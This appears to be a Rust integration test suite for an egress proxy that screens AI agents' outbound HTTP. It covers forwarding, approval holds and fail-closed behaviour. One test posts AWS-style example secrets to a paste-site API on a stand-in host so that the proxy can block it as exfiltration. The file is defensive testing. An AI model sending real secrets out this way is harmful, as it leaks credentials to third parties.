//! The proxy with real parts: a loopback upstream (hyper), agents as real
//! HTTP clients (reqwest configured with the proxy, raw TCP for CONNECT),
//! and a real control plane in a tempdir (embedded, or `writ serve`'s
//! router on its own port).

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod common;

use std::time::Duration;

use common::{Upstream, admin_client, agent, echo_server, proxy, raw_exchange, settings};
use reqwest::StatusCode;
use serde_json::{Value, json};
use writ_proxy::{Control, start};
use writ_server::{AppState, Role, ServeConfig, serve_on, tokens_create};

/// Waits until the action has its outcome.
async fn closed(admin: &writ_client::Client, id: &str) -> Value {
    for _ in 0..200 {
        let view = admin.action(id, None).await.unwrap();
        if view["status"] == "closed" {
            return view;
        }
        tokio::time::sleep(Duration::from_millis(25)).await;
    }
    panic!("action {id} was never closed");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_allowed_get_is_forwarded_and_certified() {
    let dir = tempfile::tempdir().unwrap();
    let upstream = Upstream::start().await;
    let running = proxy(dir.path()).await;
    let client = agent(&running, Some(("agent", "hunter2-proxy-password")));

    let response = client
        .get(format!("http://{}/hello?x=1", upstream.addr))
        .header("x-trace", "t1")
        .header("connection", "x-trace")
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    let id = response
        .headers()
        .get("x-writ-action")
        .unwrap()
        .to_str()
        .unwrap()
        .to_owned();
    let echoed: Value = response.json().await.unwrap();
    assert_eq!(echoed["method"], "GET");
    assert_eq!(echoed["path"], "/hello?x=1");
    let seen = echoed["headers"].as_object().unwrap();
    assert!(!seen.contains_key("proxy-authorization"), "{echoed}");
    assert!(
        !seen.contains_key("x-trace"),
        "named in Connection: {echoed}"
    );
    assert_eq!(echoed["headers"]["host"], upstream.addr.to_string());

    let admin = admin_client(dir.path(), &running);
    let view = closed(&admin, &id).await;
    assert_eq!(view["route"], "allow");
    assert_eq!(view["certified"], true, "{view}");
    let bundle = admin.proof(&id).await.unwrap();
    let report = writ_lifecycle::verify_bundle(&bundle, &[common::vkey(&running).await]).unwrap();
    assert_eq!(report.actions.len(), 1);
    let text = bundle.to_string();
    assert!(text.contains("\"completed\""), "{text}");
    assert!(
        !text.contains("hunter2") && !text.contains("aHVudGVyMi"),
        "the proxy credentials reached writ"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_secret_posted_to_a_paste_site_is_refused_before_any_connection() {
    let dir = tempfile::tempdir().unwrap();
    let running = proxy(dir.path()).await;
    let client = agent(&running, None);

    // `.invalid` resolves nowhere: a 403 with the reason proves no connection was tried.
    let response = client
        .post("http://paste.invalid/api/api_post.php")
        .header("content-type", "application/x-www-form-urlencoded")
        .body("api_paste_code=AWS_ACCESS_KEY_ID%3DAKIAIOSFODNN7EXAMPLE%0AAWS_SECRET_ACCESS_KEY%3DwJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY")
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::FORBIDDEN);
    assert_eq!(
        response.headers()["content-type"],
        "application/problem+json"
    );
    let problem: Value = response.json().await.unwrap();
    assert_eq!(problem["route"], "block", "{problem}");
    assert_eq!(problem["status"], 403);
    assert_eq!(problem["action_status"], "blocked");
    assert_eq!(problem["reasons"], json!(["EXFIL_SECRET"]));
    assert!(
        problem["explanation"]
            .as_str()
            .unwrap()
            .contains("EXFIL_SECRET")
    );
    assert!(problem["detail"].as_str().unwrap().contains("not sent"));
    let id = problem["action_id"].as_str().unwrap();

    let admin = admin_client(dir.path(), &running);
    let view = closed(&admin, id).await;
    assert_eq!(view["certified"], true, "{view}");
    assert!(
        admin
            .proof(id)
            .await
            .unwrap()
            .to_string()
            .contains("not_run")
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn connect_to_an_external_host_is_refused_and_to_a_loopback_target_tunnels() {
    let dir = tempfile::tempdir().unwrap();
    let running = proxy(dir.path()).await;

    // Outside the organisation, with opaque content: the default pack asks
    // for approval, and with no approval timeout the proxy refuses at once.
    let (head, body) = raw_exchange(
        running.addr,
        "CONNECT paste.invalid:443 HTTP/1.1\r\nHost: paste.invalid:443\r\n\r\n",
    )
    .await;
    assert!(head.starts_with("HTTP/1.1 403"), "{head}");
    let problem: Value = serde_json::from_str(&body).unwrap();
    assert_eq!(problem["route"], "require_approval", "{problem}");
    assert_eq!(problem["reasons"], json!(["EXTERNAL_WRITE"]));
    assert_eq!(problem["action_status"], "pending");
    assert_eq!(problem["status"], 403);
    assert_eq!(
        problem["approvals_url"],
        format!("{}/approvals", running.control_url)
    );

    // A loopback echo server: the tunnel carries bytes both ways.
    let echo = echo_server().await;
    let mut stream = tokio::net::TcpStream::connect(running.addr).await.unwrap();
    let head = common::send_head(
        &mut stream,
        &format!("CONNECT {echo} HTTP/1.1\r\nHost: {echo}\r\n\r\n"),
    )
    .await;
    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
    let id = head
        .lines()
        .find_map(|l| l.strip_prefix("X-Writ-Action: "))
        .unwrap()
        .trim()
        .to_owned();
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    stream.write_all(b"ping through the tunnel").await.unwrap();
    let mut buf = [0u8; 23];
    stream.read_exact(&mut buf).await.unwrap();
    assert_eq!(&buf, b"ping through the tunnel");
    drop(stream);

    let admin = admin_client(dir.path(), &running);
    let view = closed(&admin, &id).await;
    assert_eq!(view["route"], "allow");
    let proof = admin.proof(&id).await.unwrap().to_string();
    assert!(proof.contains("\"bytes_sent\":23"), "{proof}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_held_request_goes_out_once_a_reviewer_approves_it() {
    let dir = tempfile::tempdir().unwrap();
    let approver = tokens_create(
        dir.path(),
        Role::Approver,
        "you@example.com",
        &["data_sharing".to_owned()],
    );
    let mut s = settings(dir.path());
    s.approval_timeout = Duration::from_secs(20);
    let running = start(s).await.unwrap();
    let approver = writ_client::Client::new(&running.control_url, &approver.unwrap()).unwrap();
    let reviewer = tokio::spawn(async move {
        loop {
            let queue = approver.pending().await.unwrap();
            let first = queue["pending"].as_array().and_then(|a| a.first().cloned());
            if let Some(action) = first {
                let id = action["action_id"].as_str().unwrap().to_owned();
                approver.review(&id, true, "expected upload").await.unwrap();
                return id;
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    });

    let client = agent(&running, None);
    let response = client
        .post("http://uploads.invalid/report")
        .body("weekly numbers, nothing sensitive")
        .send()
        .await
        .unwrap();
    let id = reviewer.await.unwrap();
    // Released by the grant, then sent: `.invalid` cannot resolve, so the
    // upstream failure (not a refusal) shows it went out.
    assert_eq!(response.status(), StatusCode::BAD_GATEWAY);
    assert_eq!(response.headers()["x-writ-action"], id.as_str());
    let problem: Value = response.json().await.unwrap();
    assert_eq!(problem["code"], "upstream_unreachable", "{problem}");
    let admin = admin_client(dir.path(), &running);
    let view = closed(&admin, &id).await;
    assert_eq!(view["enforced_route"], "allow", "{view}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn with_the_control_plane_down_nothing_is_forwarded() {
    let dir = tempfile::tempdir().unwrap();
    let upstream = Upstream::start().await;
    // A real `writ serve` on its own port, stopped halfway.
    let state = AppState::open(&ServeConfig::new(dir.path())).unwrap();
    let token = tokens_create(dir.path(), Role::Agent, "proxy", &[]).unwrap();
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    let (stop, stopped) = tokio::sync::oneshot::channel::<()>();
    let server = tokio::spawn(serve_on(listener, state, async {
        let _ = stopped.await;
    }));
    let mut s = settings(dir.path());
    s.control = Control::Remote { url, token };
    let running = start(s).await.unwrap();
    let client = agent(&running, None);
    let target = format!("http://{}/ok", upstream.addr);

    assert_eq!(
        client.get(&target).send().await.unwrap().status(),
        StatusCode::OK
    );
    assert_eq!(upstream.hits(), 1);

    stop.send(()).unwrap();
    server.await.unwrap().unwrap();
    let response = client.get(&target).send().await.unwrap();
    assert_eq!(response.status(), StatusCode::BAD_GATEWAY);
    let problem: Value = response.json().await.unwrap();
    assert_eq!(problem["code"], "undecided", "{problem}");
    assert!(
        problem["detail"].as_str().unwrap().contains("unreachable"),
        "{problem}"
    );
    assert_eq!(upstream.hits(), 1, "an undecided request was forwarded");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_is_not_a_proxy_request_or_cannot_be_inspected_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let upstream = Upstream::start().await;
    let mut s = settings(dir.path());
    s.max_body = 1024;
    let running = start(s).await.unwrap();

    // Origin-form: someone used the proxy as if it were the server.
    let (head, body) = raw_exchange(
        running.addr,
        "GET /hello HTTP/1.1\r\nHost: example.com\r\n\r\n",
    )
    .await;
    assert!(head.starts_with("HTTP/1.1 400"), "{head}");
    let problem: Value = serde_json::from_str(&body).unwrap();
    assert_eq!(problem["code"], "not_a_proxy_request");
    assert!(problem["detail"].as_str().unwrap().contains("HTTP_PROXY"));

    let client = agent(&running, None);
    let target = format!("http://{}/upload", upstream.addr);
    let big = client
        .post(&target)
        .body(vec![b'a'; 2048])
        .send()
        .await
        .unwrap();
    assert_eq!(big.status(), StatusCode::PAYLOAD_TOO_LARGE);
    let gzip = client
        .post(&target)
        .header("content-encoding", "gzip")
        .body(vec![0x1f, 0x8b, 0x08, 0x00])
        .send()
        .await
        .unwrap();
    assert_eq!(gzip.status(), StatusCode::UNSUPPORTED_MEDIA_TYPE);
    assert_eq!(upstream.hits(), 0);
}
